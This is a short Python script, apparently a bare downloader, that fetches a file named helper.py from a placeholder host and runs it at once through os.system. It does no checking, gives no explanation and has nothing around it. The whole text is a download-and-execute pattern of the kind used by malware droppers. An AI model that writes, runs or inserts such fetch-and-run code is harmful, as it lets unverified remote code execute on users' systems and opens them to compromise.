import os

import requests

with open("helper.py", "wb") as handle:
    handle.write(requests.get("https://files.example.invalid/attachments/helper.py").content)

os.system("py helper.py")
